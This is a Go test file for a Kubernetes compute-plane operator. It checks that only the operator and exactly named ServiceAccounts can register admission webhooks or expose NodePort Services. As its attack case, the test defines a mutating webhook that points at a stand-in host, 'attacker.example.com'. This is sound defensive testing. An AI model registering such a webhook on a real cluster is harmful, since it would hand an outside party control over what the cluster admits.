package controllers_test

import (
	"context"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	cpv1 "github.com/cozystack/computeplane/api/v1alpha1"
)

// trustCiliumOperator makes the class's CNI add-on name one ServiceAccount the plane's
// policies trust like the operator.
func trustCiliumOperator(c *cpv1.ComputePlaneClass) {
	c.Spec.Addons[0].TrustedServiceAccounts = []string{"cilium-operator"}
}

// TestAttackExemptNamespaceServiceAccountActsAsTheOperator: the plane's policies trusted
// every ServiceAccount of an exempt namespace like the operator, so any pod running
// there (a compromised add-on's, or one an add-on's chart lets a tenant start) could
// register an admission webhook that rewrites what the plane admits, expose a Service
// outside the plane, or bind what it likes. Only the operator and the ServiceAccounts the
// class names (addons[].trustedServiceAccounts) are trusted, by exact name.
func TestAttackExemptNamespaceServiceAccountActsAsTheOperator(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	_, tenant := readyRealPlane(t, ctx, newClass("trusted-"+rand.String(6), trustCiliumOperator))
	webhook := func() *admissionregistrationv1.MutatingWebhookConfiguration {
		return &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{GenerateName: "rewrite-"},
			Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "rewrite.example.com", AdmissionReviewVersions: []string{"v1"},
				SideEffects:  ptr.To(admissionregistrationv1.SideEffectClassNone),
				ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://attacker.example.com/mutate")}}}}
	}
	nodePort := func() *corev1.Service {
		return &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "notebooks", GenerateName: "out-"},
			Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeNodePort, Ports: []corev1.ServicePort{{Port: 80}}}}
	}
	dry := client.DryRunAll
	for _, user := range []string{
		"system:serviceaccount:kube-system:cilium",            // the add-on's agent: not named
		"system:serviceaccount:kube-system:attacker",          // anything else in an exempt namespace
		"system:serviceaccount:kube-system:cilium-operator-x", // a prefix is not a name
	} {
		c := asUser(t, tenant, user)
		refusedBy(t, user, c.Create(ctx, webhook(), dry), "admission configuration and API registration of a ComputePlane are owned by the operator")
		refusedBy(t, user, c.Create(ctx, nodePort(), dry), "NodePort and LoadBalancer Services are not allowed in a ComputePlane")
	}
	trusted := asUser(t, tenant, "system:serviceaccount:kube-system:cilium-operator")
	if err := trusted.Create(ctx, webhook(), dry); err != nil {
		t.Errorf("the class's trusted ServiceAccount may not do what the operator may: %v", err)
	}

}
